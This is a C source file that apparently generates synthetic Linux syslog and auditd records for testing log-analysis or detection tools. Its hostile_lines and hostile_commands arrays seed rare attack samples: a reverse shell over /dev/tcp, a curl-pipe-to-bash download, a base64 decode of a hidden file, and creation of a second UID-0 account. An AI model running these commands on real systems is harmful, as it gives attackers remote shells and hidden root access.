/*
 * unix.c - what Linux servers log: syslog (sshd, sudo, cron, systemd, kernel, postfix) and the audit log.
 *
 * Letters besides generator.h's: %D date as RFC 3164 has it %H host %N serial of the audit record %F milliseconds
 * %A program %E its file %B its arguments as audit fields %C command line in hex.
 */
#include "generator.h"

#define HOSTILE_ONE_IN 400

static const struct share syslog_kinds[] = {
    {70, "CRON[%n]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"},
    {60, "CRON[%n]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"},
    {60, "CRON[%n]: pam_unix(cron:session): session closed for user root"},
    {20, "CRON[%n]: (www-data) CMD ([ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean)"},
    {90, "sshd[%n]: Failed password for invalid user %w from %e port %p ssh2"},
    {60, "sshd[%n]: Invalid user %w from %e port %p"},
    {60, "sshd[%n]: Connection closed by invalid user %w %e port %p [preauth]"},
    {60, "sshd[%n]: Received disconnect from %e port %p:11: Bye Bye [preauth]"},
    {40, "sshd[%n]: Accepted publickey for %u from %i port %p ssh2: ED25519 SHA256:%L%h"},
    {40, "sshd[%n]: pam_unix(sshd:session): session opened for user %u(uid=1%k) by (uid=0)"},
    {40, "sshd[%n]: pam_unix(sshd:session): session closed for user %u"},
    {20, "sudo:  %u : TTY=pts/%d ; PWD=/home/%u ; USER=root ; COMMAND=/usr/bin/systemctl restart %w.service"},
    {15, "sudo:  %u : TTY=pts/%d ; PWD=/srv/%w ; USER=root ; COMMAND=/usr/bin/tail -n %d /var/log/%w.log"},
    {30, "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by %u(uid=1%k)"},
    {60, "systemd[1]: Started %w-%w.service - Periodic %w of the %w store."},
    {60, "systemd[1]: %w-%w.service: Deactivated successfully."},
    {30, "systemd[1]: session-%n.scope: Deactivated successfully."},
    {30, "systemd-logind[812]: New session %n of user %u."},
    {90, "kernel: [%n.%n] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:%x:%x SRC=%e DST=10.0.4.20 LEN=40 TOS=0x00 PREC=0x00 "
         "TTL=%d ID=%n PROTO=TCP SPT=%p DPT=%k WINDOW=1024 RES=0x00 SYN URGP=0"},
    {20, "kernel: [%n.%n] eth0: renamed from veth%h"},
    {20, "dhclient[%n]: DHCPREQUEST for %i on eth0 to 10.0.0.1 port 67 (xid=0x%h)"},
    {40, "postfix/smtpd[%n]: connect from mail.%w.example.net[%e]"},
    {40, "postfix/qmgr[1488]: %h: from=<%W@example.org>, size=%n, nrcpt=1 (queue active)"},
    {40, "postfix/smtp[%n]: %h: to=<%W@example.net>, relay=mx.%w.example.net[%e]:25, delay=0.%d, "
         "delays=0.0%d/0/0.%d/0.%d, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %h)"},
    {20, "dockerd[901]: time=\"%t\" level=info msg=\"Container %L health status changed\" container=%w-%w"},
};
static const char *const hostile_lines[] = {
    "sudo:  %u : TTY=pts/%d ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/%e/4444 0>&1",
    "CRON[%n]: (root) CMD (curl -s http://%e/%w.sh | bash)",
    "sshd[%n]: error: buffer_get_string_ret: bad string length %n [preauth]",
};

static void put_syslog_date(struct generator *g, struct sw_buf *to)
{
    static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                         "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    char text[32];
    (void)sw_time_format(g->time, text);
    sw_buf_text(to, months[(unsigned)((text[5] - '0') * 10 + text[6] - '0' - 1) % 12]);
    SW_BUF_LIT(to, " ");
    sw_buf_char(to, text[8] == '0' ? ' ' : text[8]);
    sw_buf_char(to, text[9]);
    SW_BUF_LIT(to, " ");
    sw_buf_add(to, text + 11, 8);
}

struct command {
    unsigned share;
    const char *program, *exe, *arguments[6];
};

static const struct command commands[] = {
    {60, "ls", "/usr/bin/ls", {"ls", "-l", "/srv/%w"}},
    {60, "grep", "/usr/bin/grep", {"grep", "-c", "%w", "/var/log/%w.log"}},
    {50, "sed", "/usr/bin/sed", {"sed", "-n", "%d,%kp", "/srv/%w/%w.conf"}},
    {50, "cut", "/usr/bin/cut", {"cut", "-d:", "-f1"}},
    {40, "date", "/usr/bin/date", {"date", "+%%s"}},
    {40, "run-parts", "/usr/bin/run-parts", {"run-parts", "--report", "/etc/cron.hourly"}},
    {40, "python3", "/usr/bin/python3.11", {"python3", "/opt/%w/bin/%w.py", "--job", "%h"}},
    {30, "sleep", "/usr/bin/sleep", {"sleep", "%d"}},
    {30, "git", "/usr/bin/git", {"git", "-C", "/srv/%w", "fetch", "--quiet"}},
    {30, "node", "/usr/bin/node", {"node", "/srv/%w/server.js", "--port", "%p"}},
    {20, "dpkg-query", "/usr/bin/dpkg-query", {"dpkg-query", "-W", "-f=${Version}", "%w"}},
    {20, "logrotate", "/usr/sbin/logrotate", {"logrotate", "/etc/logrotate.conf"}},
    {20,
     "psql",
     "/usr/lib/postgresql/15/bin/psql",
     {"psql", "-d", "%w", "-c", "select count(*) from %w where id > %n"}},
};
static const struct command hostile_commands[] = {
    {1, "bash", "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/%e/4444 0>&1"}},
    {1, "chmod", "/usr/bin/chmod", {"chmod", "777", "/tmp/%w"}},
    {1, "base64", "/usr/bin/base64", {"base64", "-d", "/tmp/.%h"}},
    {1, "useradd", "/usr/sbin/useradd", {"useradd", "-o", "-u", "0", "%w"}},
};
static const struct command *command;

/* The arguments as a0="..." a1="...": in hex, as auditd does, when there is a blank in one. */
static void put_arguments(struct generator *g, struct sw_buf *to)
{
    unsigned count = 0;
    while (count < COUNT(command->arguments) && command->arguments[count] != NULL)
        count++;
    sw_buf_printf(to, "argc=%u", count);
    for (unsigned i = 0; i < count; i++) {
        sw_buf_clear(&g->value);
        fill(g, &g->value, command->arguments[i]);
        sw_buf_printf(to, " a%u=", i);
        bool plain = memchr(g->value.data, ' ', g->value.len) == NULL;
        if (plain)
            sw_buf_printf(to, "\"%.*s\"", (int)g->value.len, g->value.data);
        for (size_t k = 0; !plain && k < g->value.len; k++)
            sw_buf_hex(to, (unsigned char)g->value.data[k], 2);
    }
}

/* proctitle: the arguments apart by zero bytes, in hex. */
static void put_title(struct generator *g, struct sw_buf *to)
{
    for (unsigned i = 0; i < COUNT(command->arguments) && command->arguments[i] != NULL; i++) {
        sw_buf_clear(&g->value);
        fill(g, &g->value, command->arguments[i]);
        if (i > 0)
            SW_BUF_LIT(to, "00");
        for (size_t k = 0; k < g->value.len; k++)
            sw_buf_hex(to, (unsigned char)g->value.data[k], 2);
    }
}

static void special(struct generator *g, struct sw_buf *to, char letter)
{
    switch (letter) {
    case 'D': put_syslog_date(g, to); break;
    case 'H': sw_buf_printf(to, "srv%02u", g->host % 24); break;
    case 'N': sw_buf_u64(to, g->number); break;
    case 'F': sw_buf_printf(to, "%03u", (unsigned)(g->time % SW_SECOND / 1000000)); break;
    case 'A': sw_buf_text(to, command->program); break;
    case 'E': sw_buf_text(to, command->exe); break;
    case 'B': put_arguments(g, to); break;
    case 'C': put_title(g, to); break;
    default: break;
    }
}

void make_syslog(struct generator *g)
{
    g->special = special;
    fill(g, &g->out, "%D %H ");
    fill(g, &g->out,
         one_in(g, HOSTILE_ONE_IN) ? hostile_lines[below(g, COUNT(hostile_lines))]
                                   : choose(g, syslog_kinds, COUNT(syslog_kinds)));
    SW_BUF_LIT(&g->out, "\n");
}

#define AUDIT " msg=audit(%z.%F:%N): "
static const struct share audit_lines[] = {
    {10, "type=USER_ACCT" AUDIT "pid=%n uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:accounting "
                                "grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? "
                                "terminal=cron res=success'\n"},
    {10, "type=CRED_ACQ" AUDIT "pid=%n uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:setcred "
                               "grantors=pam_permit acct=\"root\" exe=\"/usr/sbin/cron\" hostname=? addr=? "
                               "terminal=cron res=success'\n"},
    {10, "type=USER_START" AUDIT "pid=%n uid=0 auid=1000 ses=%k subj=unconfined msg='op=PAM:session_open "
                                 "grantors=pam_limits,pam_unix acct=\"%u\" exe=\"/usr/sbin/sshd\" hostname=%i addr=%i "
                                 "terminal=ssh res=success'\n"},
    {10, "type=SERVICE_START" AUDIT "pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=%w-%w "
                                    "comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? "
                                    "res=success'\n"},
};
static const char execve_records[] =
    "type=SYSCALL" AUDIT "arch=c000003e syscall=59 success=yes exit=0 a0=55d1%h a1=55d2%h a2=55d3%h a3=8 items=2 "
                         "ppid=%n pid=%n auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 "
                         "sgid=1000 fsgid=1000 tty=(none) ses=%d comm=\"%A\" exe=\"%E\" subj=unconfined "
                         "key=\"exec\"\ntype=EXECVE" AUDIT "%B\ntype=CWD" AUDIT "cwd=\"/srv/%w\"\ntype=PATH" AUDIT
    "item=0 name=\"%E\" inode=%n dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
    "cap_fe=0 cap_fver=0 cap_frootid=0\ntype=PATH" AUDIT "item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=%n "
                                                         "dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
                                                         "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
                                                         "cap_frootid=0\ntype=PROCTITLE" AUDIT "proctitle=%C\n";

void make_auditd(struct generator *g)
{
    g->special = special;
    if (one_in(g, 4)) {
        fill(g, &g->out, choose(g, audit_lines, COUNT(audit_lines)));
        return;
    }
    bool hostile = one_in(g, HOSTILE_ONE_IN);
    command = &hostile_commands[below(g, COUNT(hostile_commands))];
    if (!hostile) {
        unsigned dice = below(g, 490);
        for (command = commands; dice >= command->share; command++)
            dice -= command->share;
    }
    fill(g, &g->out, execve_records);
}
